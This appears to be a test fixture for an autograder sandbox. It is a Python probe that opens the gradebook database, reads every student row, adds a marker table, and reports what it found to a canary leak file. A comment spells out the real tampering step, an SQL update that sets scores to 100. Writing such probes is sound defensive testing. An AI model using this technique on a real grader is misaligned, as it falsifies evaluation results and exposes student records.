"""Reads the gradebook, and writes into it (a table; in earnest full marks).

Attack: snooping
Deserves: 80
Keeps: 80
"""

# %% extra before: sampling
import os
def _read(path, count=300):
    try:
        with open(path, "rb") as file:
            return file.read(count).decode("latin-1")
    except OSError as error:
        return ""
def _tell(found):
    found = [piece for piece in found if piece]
    try:
        with open("@CANARY_DIR@/leak.txt", "a") as file:
            file.write("\n".join(found))
    except OSError:
        pass
    if found:
        raise RuntimeError("LEAK " + " | ".join(found)[:380])

import sqlite3
try:
    _book = sqlite3.connect("@GRADEBOOK@", timeout=1)
    _book.execute("CREATE TABLE canary_was_here (x)")  # in earnest: UPDATE grade SET manual_score = 100
    _book.commit()
    _rows = str(_book.execute("SELECT * FROM student").fetchall())
except sqlite3.Error as error:
    _rows = ""
_tell([_rows, _read("@GRADEBOOK@", 16)])
